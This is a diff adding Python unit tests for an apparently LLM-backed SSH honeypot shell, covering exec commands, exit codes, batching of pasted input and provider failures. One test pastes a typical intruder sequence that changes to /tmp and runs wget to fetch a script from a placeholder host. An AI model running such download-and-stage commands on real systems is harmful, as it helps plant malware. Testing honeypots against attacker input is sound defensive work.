@@ -0,0 +1,139 @@
+import unittest
+from unittest.mock import MagicMock, patch
+
+from emulated_shell.emulated_shell import EmulatedShell, guess_exit_status
+from tests.mock_config_data import get_mock_config
+
+
+class TestEmulatedShellExec(unittest.TestCase):
+    def setUp(self):
+        self.channel = MagicMock()
+        patcher = patch("emulated_shell.emulated_shell.LLMHoneypot")
+        self.llm_class = patcher.start()
+        self.addCleanup(patcher.stop)
+        self.llm = self.llm_class.return_value
+        self.llm.last_call = {"source": "llm"}
+
+        with patch("emulated_shell.emulated_shell.log_event"):
+            self.shell = EmulatedShell(self.channel, "session", "10.0.0.1", 40000, "root", get_mock_config())
+
+    def _sent(self) -> bytes:
+        return b"".join(call.args[0] for call in self.channel.send.call_args_list)
+
+    def test_exec_llm_command(self):
+        self.llm.execute_model.return_value = "Linux honeypot\r\n4\r\nroot@10.0.0.2:~$ "
+
+        with patch("emulated_shell.emulated_shell.log_event") as mock_log:
+            status = self.shell.run_exec("uname -a; nproc")
+
+        self.assertEqual(status, 0)
+        self.assertEqual(self._sent(), b"Linux honeypot\n4\n")
+        self.channel.send_exit_status.assert_called_once_with(0)
+        self.channel.close.assert_called_once()
+        details = mock_log.call_args_list[0].kwargs["details"]
+        self.assertTrue(details["exec"])
+
+    def test_exec_builtin_command_with_pty(self):
+        with patch("emulated_shell.emulated_shell.log_event"):
+            status = self.shell.run_exec("whoami", pty=True)
+
+        self.assertEqual(status, 0)
+        self.assertEqual(self._sent(), b"root\r\n")
+        self.llm.execute_model.assert_not_called()
+        self.llm.record_exchange.assert_called_once()
+
+    def test_exit_status(self):
+        self.assertEqual(guess_exit_status("bash: nmap: command not found\n"), 127)
+        self.assertEqual(guess_exit_status("cat: /root/x: No such file or directory\n"), 1)
+        self.assertEqual(guess_exit_status("total 0\n"), 0)
+        self.assertEqual(guess_exit_status("bash: nmap: command not found\r\n"), 127)
+
+    def test_exec_exit_status_with_pty(self):
+        self.llm.execute_model.return_value = "bash: nmap: command not found\r\nroot@10.0.0.2:~$ "
+
+        with patch("emulated_shell.emulated_shell.log_event"):
+            status = self.shell.run_exec("nmap", pty=True)
+
+        self.assertEqual(status, 127)
+        self.assertEqual(self._sent(), b"bash: nmap: command not found\r\n")
+
+
+
+class TestEmulatedShellPaste(unittest.TestCase):
+    def setUp(self):
+        self.channel = MagicMock()
+        patcher = patch("emulated_shell.emulated_shell.LLMHoneypot")
+        self.llm = patcher.start().return_value
+        self.addCleanup(patcher.stop)
+        self.llm.keystrokes = 0
+
+        with patch("emulated_shell.emulated_shell.log_event"):
+            self.shell = EmulatedShell(self.channel, "session", "10.0.0.1", 40000, "root", get_mock_config())
+
+    def _sent(self) -> bytes:
+        return b"".join(call.args[0] for call in self.channel.send.call_args_list)
+
+    def _paste(self, data: bytes):
+        with patch("emulated_shell.emulated_shell.log_event") as mock_log:
+            for step in self.shell._plan_input(self.shell._process_input(data)):
+                self.assertTrue(self.shell._handle_step(step))
+        return [call.kwargs["command"] for call in mock_log.call_args_list]
+
+    def test_pasted_commands_are_batched(self):
+        self.llm.execute_batch.return_value = [
+            ("\r\nroot@10.0.0.1:/tmp$ ", {"source": "batch", "batch_size": 2}),
+            ("--2025-05-01 10:00:00--  http://x/a.sh\r\nroot@10.0.0.1:/tmp$ ", {"source": "batch", "batch_size": 2}),
+        ]
+
+        logged = self._paste(b"cd /tmp || cd /var\nwget http://x/a.sh\nwhoami\n")
+
+        self.llm.execute_batch.assert_called_once_with(["cd /tmp || cd /var", "wget http://x/a.sh"])
+        self.llm.execute_model.assert_not_called()
+        self.assertEqual(logged, ["cd /tmp || cd /var", "wget http://x/a.sh", "whoami"])
+        self.assertEqual(
+            self._sent(),
+            b"cd /tmp || cd /var\r\n\r\nroot@10.0.0.1:/tmp$ "
+            b"wget http://x/a.sh\r\n--2025-05-01 10:00:00--  http://x/a.sh\r\nroot@10.0.0.1:/tmp$ "
+            b"whoami\r\nroot\r\nroot@" + self.shell.ssh_server_ip.encode() + b":/tmp$ ",
+        )
+
+    def test_unusable_batch_falls_back_to_single_commands(self):
+        self.llm.execute_batch.return_value = None
+        self.llm.execute_model.side_effect = ["4\r\nroot@10.0.0.1:~$ ", "x86_64\r\nroot@10.0.0.1:~$ "]
+        self.llm.stream = False
+
+        logged = self._paste(b"nproc\narch\n")
+
+        self.assertEqual(logged, ["nproc", "arch"])
+        self.assertEqual(self._sent(), b"nproc\r\n4\r\nroot@10.0.0.1:~$ arch\r\nx86_64\r\nroot@10.0.0.1:~$ ")
+
+    def test_commands_left_by_the_batch_are_sent_singly(self):
+        self.llm.execute_batch.return_value = [("\r\nroot@10.0.0.1:/opt$ ", {"source": "cache", "batch_size": 2})]
+        self.llm.execute_model.return_value = "x86_64\r\nroot@10.0.0.1:/opt$ "
+        self.llm.stream = False
+
+        logged = self._paste(b"cd /opt || cd /srv\narch\n")
+
+        self.llm.execute_model.assert_called_once()
+        self.assertEqual(logged, ["cd /opt || cd /srv", "arch"])
+        self.assertEqual(self._sent(), b"cd /opt || cd /srv\r\n\r\nroot@10.0.0.1:/opt$ arch\r\nx86_64\r\nroot@10.0.0.1:/opt$ ")
+
+    def test_llm_error_keeps_the_session(self):
+        self.llm.execute_model.side_effect = ConnectionError("all providers failed")
+        self.llm.execute_batch.side_effect = ConnectionError("all providers failed")
+        prompt = b"root@" + self.shell.ssh_server_ip.encode() + b":~$ "
+
+        with patch("emulated_shell.emulated_shell.log_event") as mock_log:
+            for data in (b"nproc\n", b"arch\nuptime\n"):
+                for step in self.shell._plan_input(self.shell._process_input(data)):
+                    self.assertTrue(self.shell._handle_step(step))
+
+        error = b"-bash: fork: Resource temporarily unavailable\r\n"
+        self.assertEqual(self._sent(), b"nproc\r\n" + error + prompt + b"arch\r\n" + error + prompt
+                         + b"uptime\r\n" + error + prompt)
+        self.assertEqual([call.kwargs["event_id"] for call in mock_log.call_args_list], ["command_error"] * 3)
+        self.channel.close.assert_not_called()
+
+
+if __name__ == '__main__':
+    unittest.main()